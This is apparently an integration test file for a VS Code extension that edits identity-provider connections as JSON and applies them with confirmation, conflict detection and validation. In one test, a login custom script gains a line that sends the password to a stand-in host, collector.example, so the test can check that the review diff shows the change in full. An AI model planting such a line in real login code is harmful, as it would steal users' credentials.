// Edit Connection: the connection's editable fields as an `auth-tenants:` JSON document, applied on save with the
// guards (errors block, server changes detected, changes confirmed, options never wiped), in a real VS Code.
import * as assert from 'node:assert/strict';
import * as vscode from 'vscode';
import { DEMO_CONNECTION_IDS } from '../../src/emulator/seed/ids';
import type { Services } from '../../src/services';
import type { TreeNode } from '../../src/tree/node';
import { at, openedDoc as doc, ours, setText, until } from './helpers/documents';
import { emulator, emulatorUrl } from './helpers/emulator';
import { child, children, freshTenant } from './helpers/extension';
import type { ScriptedPrompts } from './helpers/scriptedPrompts';
import { narrowToken } from './helpers/tokens';
import { withoutSecrets } from '../../src/kinds/secrets';

const DB = DEMO_CONNECTION_IDS.database;
const DB_NAME = 'Username-Password-Authentication';
const PATCH = 'PATCH /api/v2/connections/:id';
const GET = 'GET /api/v2/connections/:id';
const EDITABLE = ['display_name', 'options', 'is_domain_connection', 'show_as_button', 'realms', 'metadata', 'authentication', 'connected_accounts', 'cross_app_access_requesting_app'];

type Json = Record<string, unknown>;

/** The connection's document as the server's answer gives it: its editable fields, never an option secret. */
const editable = (c: Json) => withoutSecrets('connections', Object.fromEntries(EDITABLE.filter((k) => c[k] !== undefined && c[k] !== null).map((k) => [k, c[k]])));
const server = async (id: string = DB) => (await emulator.api<Json>('GET', `connections/${id}`)).body;
const count = async (route: string) => (await emulator.stats()).byRoute[route] ?? 0;

async function edit(uri: vscode.Uri, change: (value: Json) => void): Promise<Json> {
  const value = JSON.parse(doc(uri).getText()) as Json;
  change(value);
  await setText(uri, `${JSON.stringify(value, null, 2)}\n`);
  return value;
}

describe('Edit Connection', function () {
  this.timeout(60_000);
  let s: Services;
  let prompts: ScriptedPrompts;

  beforeEach(async () => {
    await emulator.faults('');
    await emulator.reset();
    ({ services: s, prompts } = await freshTenant());
  });

  afterEach(async () => {
    await emulator.faults('');
    for (const d of vscode.workspace.textDocuments.filter((d) => d.uri.scheme === 'auth-tenants' && d.isDirty)) {
      await vscode.window.showTextDocument(d);
      await vscode.commands.executeCommand('workbench.action.files.revert');
    }
    const tabs = vscode.window.tabGroups.all.flatMap((g) => g.tabs).filter((t) => {
      const input = t.input;
      if (input instanceof vscode.TabInputText) return input.uri.scheme.startsWith('auth-tenants');
      return input instanceof vscode.TabInputTextDiff && input.modified.scheme.startsWith('auth-tenants');
    });
    if (tabs.length) await vscode.window.tabGroups.close(tabs);
    assert.equal(prompts.pending, 0, 'every scripted answer was used');
  });

  async function connectionsGroup(): Promise<TreeNode> {
    const [tenant] = await children(s);
    return child(s, tenant, 'Connections');
  }

  async function openFromTree(name = DB_NAME): Promise<vscode.Uri> {
    const node = await child(s, await connectionsGroup(), name);
    const uri = await vscode.commands.executeCommand<vscode.Uri>('authTenants.editConnection', node);
    assert.ok(uri instanceof vscode.Uri, `the command returns the document URI; notices: ${JSON.stringify(prompts.notices)}`);
    await until('the document is open', () => doc(uri));
    return uri;
  }

  it('opens a connection from the tree as its editable fields, named by ids only', async () => {
    const uri = await openFromTree();
    assert.equal(uri.toString(true), `auth-tenants:/local-emulator/connections/${DB}/${DB_NAME}.connection.json`);
    const shown = JSON.parse(doc(uri).getText()) as Json;
    assert.deepEqual(shown, editable(await server()));
    assert.ok('options' in shown, 'the admin token reads options');
    for (const key of ['name', 'strategy', 'id', 'enabled_clients']) assert.equal(key in shown, false, `${key} is not in the document`);
    assert.equal(doc(uri).languageId, 'json');
    assert.equal(doc(uri).isDirty, false);
    await new Promise((r) => setTimeout(r, 300));
    assert.deepEqual(ours(uri), []);
    const lenses = await vscode.commands.executeCommand<vscode.CodeLens[]>('vscode.executeCodeLensProvider', uri);
    // A short header line (headerLine.ts): the name and the tenant; kind, strategy and id are in its hover.
    assert.deepEqual(lenses.map((l) => l.command?.title), [`$(plug) ${DB_NAME} · Local emulator`, '$(cloud-upload) Save to apply']);
  });

  it('a custom script changed: the save\'s modal offers only Show Full Change, the diff shows both scripts line by line, then Apply saves it', async () => {
    const uri = await openFromTree();
    const added = `  fetch("https://collector.example/${'c'.repeat(100)}?p=" + password);`;
    let login = '';
    await edit(uri, (v) => {
      const scripts = (v.options as { customScripts: Record<string, string> }).customScripts;
      login = scripts.login = scripts.login!.replace('  return', `${added}\n  return`);
    });
    prompts.script(
      { kind: 'confirm', value: 'Show Full Change', expect: /^Apply 1 change\(s\) to connection Username-Password-Authentication on Local emulator\? 1 change\(s\), too long or too many to show here in full/ },
      { kind: 'confirm', value: 'Apply', expect: /Every change is shown in full in the diff "connection Username-Password-Authentication on Local emulator: now ↔ after"/ },
    );
    assert.equal(await doc(uri).save(), true, `notices: ${JSON.stringify(prompts.notices)}`);
    assert.ok(prompts.asked.every((a) => !a.text.includes('…')), 'no question shows a cut value');
    const tab = vscode.window.tabGroups.all.flatMap((g) => g.tabs).find((t) => t.input instanceof vscode.TabInputTextDiff && t.input.original.scheme === 'auth-tenants-review');
    assert.ok(tab, 'the review diff is open');
    const diff = tab.input as vscode.TabInputTextDiff;
    const now = (await vscode.workspace.openTextDocument(diff.original)).getText().split('\n');
    const after = (await vscode.workspace.openTextDocument(diff.modified)).getText().split('\n');
    assert.deepEqual(after.filter((l) => !now.includes(l)), [added], 'the added line is the only difference, in full');
    assert.equal(((await server()).options as { customScripts: { login: string } }).customScripts.login, login);
  });

  it('a restored editor (no command) loads the connection on first read', async () => {
    const uri = vscode.Uri.parse(`auth-tenants:/local-emulator/connections/${DEMO_CONNECTION_IDS.google}/google-oauth2.connection.json`);
    await emulator.resetStats();
    const document = await vscode.workspace.openTextDocument(uri);
    assert.equal(await count(GET), 1, 'one GET for stat and read together');
    assert.deepEqual(JSON.parse(document.getText()), editable(await server(DEMO_CONNECTION_IDS.google)));
  });

  it('saves a display_name edit: confirms the change list, PATCHes once, keeps options, refreshes the tree', async () => {
    const group = await connectionsGroup();
    const before = await server();
    const node = (await children(s, group)).find((n) => n.id.endsWith(`/${DB}`)) as TreeNode & { data: Json };
    assert.equal(node.data.display_name, 'Email and password');
    const uri = await openFromTree();
    await edit(uri, (v) => (v.display_name = 'Sign in with email'));
    assert.equal(doc(uri).isDirty, true);
    await emulator.resetStats();
    prompts.script({ kind: 'confirm', value: 'Apply', expect: /Apply 1 change\(s\) to connection Username-Password-Authentication on Local emulator\?/ });
    assert.equal(await doc(uri).save(), true, `saved; notices: ${JSON.stringify(prompts.notices)}`);
    const asked = prompts.asked.at(-1)!;
    assert.match(asked.text, /display_name: "Email and password" → "Sign in with email"/);
    assert.doesNotMatch(asked.text, /options/);
    assert.equal(await count(PATCH), 1);
    assert.equal(await count(GET), 1, 'one GET to detect a change on the server');
    const after = await server();
    assert.equal(after.display_name, 'Sign in with email');
    assert.deepEqual(after.options, before.options, 'options unchanged on the server');
    assert.deepEqual(after.realms, before.realms);
    assert.deepEqual(after.metadata, before.metadata);
    assert.equal(doc(uri).isDirty, false);
    assert.deepEqual(JSON.parse(doc(uri).getText()), editable(after));
    assert.ok(prompts.notices.some((n) => n.kind === 'info' && /updated/.test(n.message)));
    const reloaded = (await children(s, group)).find((n) => n.id.endsWith(`/${DB}`)) as TreeNode & { data: Json };
    assert.equal(reloaded.data.display_name, 'Sign in with email', 'the connections group reloaded');
  });

  it('an options edit sends the whole options object; every other option is kept', async () => {
    const before = await server();
    const uri = await openFromTree();
    await edit(uri, (v) => ((v.options as { password_history: { size: number } }).password_history.size = 10));
    prompts.script({ kind: 'confirm', value: 'Apply', expect: /options\.password_history\.size: 5 → 10/ });
    assert.equal(await doc(uri).save(), true, `notices: ${JSON.stringify(prompts.notices)}`);
    const after = await server();
    const expected = { ...(before.options as Json), password_history: { enable: true, size: 10 } };
    assert.deepEqual(after.options, expected);
  });

  it('changing options without update:connections_options is an error naming the scope; nothing is sent', async () => {
    await s.registry.save(
      { id: 'readonly-options', label: 'Read-only options', domain: emulatorUrl(), environment: 'development', method: 'access-token' },
      { accessToken: await narrowToken('read:connections update:connections read:connections_options') },
    );
    prompts.script({ kind: 'pick', value: 'Read-only options' }, { kind: 'pick', value: DB_NAME });
    const uri = await vscode.commands.executeCommand<vscode.Uri>('authTenants.editConnection');
    assert.ok(uri instanceof vscode.Uri, `notices: ${JSON.stringify(prompts.notices)}`);
    await until('the document is open', () => doc(uri));
    assert.ok('options' in JSON.parse(doc(uri).getText()), 'options are shown (readable)');
    await edit(uri, (v) => ((v.options as Json).brute_force_protection = false));
    const error = await until('the scope error', () => ours(uri).find((d) => /update:connections_options/.test(d.message)));
    assert.equal(error.severity, vscode.DiagnosticSeverity.Error);
    await emulator.resetStats();
    assert.equal(await doc(uri).save(), false);
    assert.equal(await count(PATCH), 0);
    await s.registry.remove('readonly-options');
  });

  it('after a save the document shows what the server returned (empty realms become the connection name)', async () => {
    const uri = await openFromTree();
    await edit(uri, (v) => (v.realms = []));
    prompts.script({ kind: 'confirm', value: 'Apply', expect: /realms: \["Username-Password-Authentication"\] → \[\]/ });
    assert.equal(await doc(uri).save(), true, `notices: ${JSON.stringify(prompts.notices)}`);
    assert.deepEqual((await server()).realms, [DB_NAME]);
    await until('the document shows the server realms', () => {
      const realms = (JSON.parse(doc(uri).getText()) as Json).realms as string[];
      return realms.length === 1 && realms[0] === DB_NAME;
    });
    assert.equal(doc(uri).isDirty, false);
  });

  it('auto-save never applies (and never asks); an explicit save does', async () => {
    const uri = await openFromTree();
    const files = vscode.workspace.getConfiguration('files');
    await emulator.resetStats();
    try {
      await files.update('autoSaveDelay', 100, vscode.ConfigurationTarget.Global);
      await files.update('autoSave', 'afterDelay', vscode.ConfigurationTarget.Global);
      await edit(uri, (v) => (v.display_name = 'Typed, not saved'));
      await new Promise((r) => setTimeout(r, 2000));
      assert.equal(doc(uri).isDirty, true, 'auto-save did not apply');
      assert.equal(prompts.asked.length, 0, 'no question was asked');
      assert.equal(await count(PATCH), 0);
    } finally {
      await files.update('autoSave', undefined, vscode.ConfigurationTarget.Global);
      await files.update('autoSaveDelay', undefined, vscode.ConfigurationTarget.Global);
    }
    prompts.script({ kind: 'confirm', value: 'Apply' });
    assert.equal(await doc(uri).save(), true, `notices: ${JSON.stringify(prompts.notices)}`);
    assert.equal((await server()).display_name, 'Typed, not saved');
  });

  it('nothing changed (formatting only): "No changes to apply" and no request', async () => {
    const uri = await openFromTree();
    await setText(uri, JSON.stringify(JSON.parse(doc(uri).getText())));
    assert.equal(doc(uri).isDirty, true);
    await emulator.resetStats();
    assert.equal(await doc(uri).save(), true);
    assert.equal((await emulator.stats()).requests, 0, 'no request at all');
    assert.match(prompts.notices.at(-1)!.message, /No changes to apply/);
    assert.equal(doc(uri).isDirty, false);
  });

  const diffTab = (where: (input: vscode.TabInputTextDiff) => boolean) =>
    vscode.window.tabGroups.all.flatMap((g) => g.tabs).find((t) => t.input instanceof vscode.TabInputTextDiff && where(t.input));

  /** The seeded connection never set show_as_button (the service leaves it out): set it, so both sides hold it. */
  const openWithButtonSet = async () => {
    await emulator.patchConnection(DB, { show_as_button: false });
    return openFromTree();
  };

  it('detects a change made on the server: Compare opens a diff and waits; a dismiss keeps the edit; Overwrite applies', async () => {
    const uri = await openWithButtonSet();
    await edit(uri, (v) => (v.display_name = 'Mine'));
    await emulator.patchConnection(DB, { display_name: 'Theirs', show_as_button: true });

    prompts.script(
      { kind: 'confirm', value: 'Compare', expect: /changed on the server[\s\S]*display_name: "Email and password" → "Theirs"[\s\S]*show_as_button: false → true/ },
      { kind: 'confirm', value: undefined, expect: /Server version \(left\) and yours \(right\)/ },
    );
    assert.equal(await doc(uri).save(), false, 'dismissing the message next to the diff refuses the save');
    assert.deepEqual(prompts.asked.at(-2)?.items, ['Compare', 'Overwrite'], 'no Merge: both sides changed display_name');
    assert.deepEqual(prompts.asked.at(-1)?.items, ['Overwrite']);
    assert.equal(doc(uri).isDirty, true);
    assert.equal(JSON.parse(doc(uri).getText()).display_name, 'Mine');
    const diff = await until('a diff editor', () => diffTab((input) => input.modified.toString() === uri.toString()));
    const input = diff.input as vscode.TabInputTextDiff;
    assert.equal(input.original.scheme, 'auth-tenants-server');
    const left = await vscode.workspace.openTextDocument(input.original);
    assert.equal(JSON.parse(left.getText()).display_name, 'Theirs', 'the left side is the server version now');

    prompts.script({ kind: 'confirm', value: undefined, expect: /changed on the server/ });
    assert.equal(await doc(uri).save(), false, 'Cancel refuses the save');
    assert.equal(doc(uri).isDirty, true);
    assert.equal((await server()).display_name, 'Theirs', 'server unchanged');

    await emulator.resetStats();
    prompts.script(
      { kind: 'confirm', value: 'Compare', expect: /changed on the server/ },
      { kind: 'confirm', value: 'Overwrite', expect: /Server version \(left\)/ },
      { kind: 'confirm', value: 'Apply', expect: /display_name: "Theirs" → "Mine"[\s\S]*show_as_button: true → false/ },
    );
    assert.equal(await doc(uri).save(), true, `notices: ${JSON.stringify(prompts.notices)}`);
    assert.equal(await count(PATCH), 1);
    const after = await server();
    assert.equal(after.display_name, 'Mine');
    assert.equal(after.show_as_button, false);
    assert.equal(doc(uri).isDirty, false);
  });

  it('Merge keeps the server\'s other changes, shows the result before sending, then applies only yours', async () => {
    const uri = await openWithButtonSet();
    await edit(uri, (v) => (v.display_name = 'Mine'));
    await emulator.patchConnection(DB, { show_as_button: true, metadata: { owner: 'someone-else' } });
    await emulator.resetStats();
    prompts.script(
      { kind: 'confirm', value: 'Compare', expect: /changed on the server[\s\S]*show_as_button: false → true[\s\S]*Merge keeps the server's changes/ },
      { kind: 'confirm', value: 'Merge', expect: /Server version \(left\) and yours/ },
      { kind: 'confirm', value: 'Apply', expect: /Apply 1 change\(s\)[\s\S]*display_name: "Email and password" → "Mine"$/ },
    );
    // The merge diff closes once the merge was sent: record what it showed while it was open.
    const shownDiffs: vscode.TabInputTextDiff[] = [];
    const snapshots = new Map<string, string>();
    const watching = [
      vscode.window.tabGroups.onDidChangeTabs((e) => shownDiffs.push(...e.opened.map((t) => t.input).filter((i) => i instanceof vscode.TabInputTextDiff))),
      vscode.workspace.onDidOpenTextDocument((d) => d.uri.scheme === 'auth-tenants-server' && snapshots.set(d.uri.toString(), d.getText())),
    ];
    try {
      assert.equal(await doc(uri).save(), true, `notices: ${JSON.stringify(prompts.notices)}`);
    } finally {
      watching.forEach((w) => w.dispose());
    }
    assert.deepEqual(prompts.asked.at(-3)?.items, ['Compare', 'Merge', 'Overwrite']);
    const merged = shownDiffs.find((input) => input.original.scheme === 'auth-tenants-server' && input.modified.scheme === 'auth-tenants-server');
    assert.ok(merged, 'the merge result was shown next to the server version');
    assert.equal(diffTab((input) => input.modified.toString() === merged.modified.toString()), undefined, 'the merge diff is closed once sent');
    const right = JSON.parse(snapshots.get(merged.modified.toString()) ?? 'null') as Json;
    assert.equal(right.display_name, 'Mine');
    assert.equal(right.show_as_button, true);
    assert.deepEqual(right.metadata, { owner: 'someone-else' });
    assert.equal(await count(PATCH), 1);
    const after = await server();
    assert.equal(after.display_name, 'Mine');
    assert.equal(after.show_as_button, true, 'the server\'s change is kept');
    assert.deepEqual(after.metadata, { owner: 'someone-else' });
    await until('the document shows the merged server state', () => !doc(uri).isDirty && JSON.parse(doc(uri).getText()).show_as_button === true);
  });

  it('a token without read:connections_options: no options in the document, a note at the top, options intact on save', async () => {
    await s.registry.save(
      { id: 'narrow', label: 'Narrow token', domain: emulatorUrl(), environment: 'production', method: 'access-token' },
      { accessToken: await narrowToken('read:connections update:connections') },
    );
    const before = await server();
    prompts.script({ kind: 'pick', value: 'Narrow token' }, { kind: 'pick', value: DB_NAME });
    const uri = await vscode.commands.executeCommand<vscode.Uri>('authTenants.editConnection');
    assert.ok(uri instanceof vscode.Uri, `notices: ${JSON.stringify(prompts.notices)}`);
    assert.equal(uri.toString(true), `auth-tenants:/narrow/connections/${DB}/${DB_NAME}.connection.json`);
    await until('the document is open', () => doc(uri));
    const shown = JSON.parse(doc(uri).getText()) as Json;
    assert.equal('options' in shown, false);
    const { options: _options, ...rest } = editable(before);
    assert.deepEqual(shown, rest);
    const note = await until('the options note', () => ours(uri).find((d) => d.code === 'options_not_shown'));
    assert.deepEqual(at(note), [0, 0, 0, 1]);
    assert.equal(note.severity, vscode.DiagnosticSeverity.Information);
    assert.match(note.message, /options are not shown: this token lacks read:connections_options; the rest stays editable and options are not sent/);

    // Adding options is an error at the key, and blocks the save.
    await edit(uri, (v) => (v.options = {}));
    const error = await until('the options error', () => ours(uri).find((d) => d.severity === vscode.DiagnosticSeverity.Error));
    const line = doc(uri).getText().split('\n').findIndex((l) => l.includes('"options"'));
    assert.deepEqual(at(error), [line, 2, line, 11]);
    await emulator.resetStats();
    assert.equal(await doc(uri).save(), false);
    assert.equal(await count(PATCH), 0);

    // Without it, a display_name edit saves (a PATCH carrying options would be refused: no update:connections_options).
    await edit(uri, (v) => {
      delete v.options;
      v.display_name = 'Narrow edit';
    });
    prompts.script({ kind: 'confirm', value: 'Apply', expect: /PRODUCTION tenant Narrow token/ });
    assert.equal(await doc(uri).save(), true, `notices: ${JSON.stringify(prompts.notices)}`);
    const after = await server();
    assert.equal(after.display_name, 'Narrow edit');
    assert.deepEqual(after.options, before.options, 'options intact');
    assert.equal('options' in JSON.parse(doc(uri).getText()), false);
    await s.registry.remove('narrow');
  });

  it('an invalid document: exact diagnostics, the save fails, nothing is sent', async () => {
    const uri = await openFromTree();
    const value = await edit(uri, (v) => {
      v.display_name = 'x'.repeat(129);
      v.metadata = Object.fromEntries(Array.from({ length: 11 }, (_, i) => [`key${i}`, 'v']));
    });
    const lines = doc(uri).getText().split('\n');
    const nameLine = lines.findIndex((l) => l.startsWith('  "display_name"'));
    const metaLine = lines.findIndex((l) => l.startsWith('  "metadata"'));
    const metaEnd = metaLine + Object.keys(value.metadata as Json).length + 1;
    const diagnostics = await until('two errors', () => (ours(uri).length >= 2 ? ours(uri) : undefined));
    assert.deepEqual(diagnostics.map(at), [
      [nameLine, 18, nameLine, 18 + 131],
      [metaLine, 14, metaEnd, 3],
    ]);
    assert.ok(diagnostics.every((d) => d.severity === vscode.DiagnosticSeverity.Error));
    await emulator.resetStats();
    assert.equal(await doc(uri).save(), false);
    const told = prompts.notices.at(-1)!;
    assert.equal(told.kind, 'error');
    assert.match(told.message, /^Save refused\. Not applied: the document has \d+ problems \(first, line \d+: /, 'our own sentence says why');
    assert.equal(doc(uri).isDirty, true);
    assert.equal(await count(PATCH), 0, 'no PATCH');
    assert.equal((await emulator.stats()).requests, 0, 'no request at all');
    assert.equal((await server()).display_name, 'Email and password');
  });

  it('a server error keeps the text intact and dirty; the next save applies', async () => {
    const uri = await openFromTree();
    await edit(uri, (v) => (v.display_name = 'After the outage'));
    const text = doc(uri).getText();
    await emulator.faults('500@1:PATCH /api/v2/connections*');
    prompts.script({ kind: 'confirm', value: 'Apply' });
    assert.equal(await doc(uri).save(), false);
    assert.equal(doc(uri).isDirty, true);
    assert.equal(doc(uri).getText(), text);
    assert.equal((await server()).display_name, 'Email and password');
    await emulator.faults('');
    prompts.script({ kind: 'confirm', value: 'Apply' });
    assert.equal(await doc(uri).save(), true);
    assert.equal((await server()).display_name, 'After the outage');
  });

  it('a 400 from the server: its message is shown at the property it names, the text stays dirty', async () => {
    const uri = await openFromTree();
    await edit(uri, (v) => (v.realms = [DB_NAME, '']));
    prompts.script({ kind: 'confirm', value: 'Apply' });
    assert.equal(await doc(uri).save(), false);
    assert.equal(doc(uri).isDirty, true);
    const lines = doc(uri).getText().split('\n');
    const line = lines.findIndex((l) => l === '    ""');
    const problem = await until('the server problem', () => ours(uri).find((d) => d.code === 'server'));
    assert.deepEqual(at(problem), [line, 4, line, 6]);
    assert.match(problem.message, /on property realms\.1/);
    assert.deepEqual((await server()).realms, [DB_NAME]);
    await edit(uri, (v) => (v.realms = [DB_NAME]));
    await until('the server problem cleared by the edit', () => !ours(uri).some((d) => d.code === 'server'));
  });

  it('the JSON Schema contribution gives completion and hover; each problem is reported once, by us', async () => {
    const uri = await openFromTree();
    await setText(uri, '{\n  "display_name": "x",\n  \n}\n');
    const list = await until('schema completions', async () => {
      const items = await vscode.commands.executeCommand<vscode.CompletionList>('vscode.executeCompletionItemProvider', uri, new vscode.Position(2, 2));
      const labels = items.items.map((i) => (typeof i.label === 'string' ? i.label : i.label.label));
      return labels.some((l) => l.includes('show_as_button')) && labels;
    });
    assert.ok(list.some((l) => l.includes('cross_app_access_requesting_app')));
    const hovers = await vscode.commands.executeCommand<vscode.Hover[]>('vscode.executeHoverProvider', uri, new vscode.Position(1, 5));
    const hoverText = hovers.flatMap((h) => h.contents.map((c) => (typeof c === 'string' ? c : c.value))).join(' ');
    assert.match(hoverText, /Always sent on save/);
    await setText(uri, '{\n  "display_name": "x",\n  "not_a_field": 1,\n  "show_as_button": "yes"\n}\n');
    await until('our two diagnostics', () => ours(uri).length === 2);
    // The JSON language server validates a moment after each change: give it time to add its own, if it would.
    await new Promise((r) => setTimeout(r, 2500));
    const all = vscode.languages.getDiagnostics(uri);
    assert.deepEqual(all.map((d) => [d.source, at(d).join()]), [['auth-tenants', '2,2,2,15'], ['auth-tenants', '3,20,3,25']], JSON.stringify(all.map((d) => d.message)));
  });

});
